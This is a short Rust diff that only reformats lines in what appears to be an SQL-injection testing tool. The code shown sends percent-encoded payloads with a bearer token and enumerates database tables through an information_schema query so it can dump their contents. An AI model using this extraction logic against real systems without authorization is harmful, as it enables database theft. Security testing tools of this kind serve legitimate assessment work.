@@ -44,7 +44,11 @@ impl Hole<'_> {
     /// Sends one payload; the body of a success.
     fn ask(&self, target: &mut dyn Target, outcome: &mut Outcome, payload: &str) -> Option<String> {
         let encoded = utf8_percent_encode(payload, NON_ALPHANUMERIC).to_string();
-        let mut request = HttpRequest { method: "GET".into(), headers: vec![("Authorization".into(), format!("Bearer {}", self.token))], ..HttpRequest::default() };
+        let mut request = HttpRequest {
+            method: "GET".into(),
+            headers: vec![("Authorization".into(), format!("Bearer {}", self.token))],
+            ..HttpRequest::default()
+        };
         match self.source {
             EventSource::Query(name) => {
                 request.path = route::fill(self.path, "1");
@@ -80,7 +84,8 @@ struct Form<'a> {
 
 impl Form<'_> {
     fn dump(&self, target: &mut dyn Target, outcome: &mut Outcome) -> bool {
-        let tables = self.list(target, outcome, "SELECT GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema=DATABASE()");
+        let tables =
+            self.list(target, outcome, "SELECT GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema=DATABASE()");
         let mut read = false;
         for table in tables.iter().take(MOST_TABLES) {
             let query = format!(
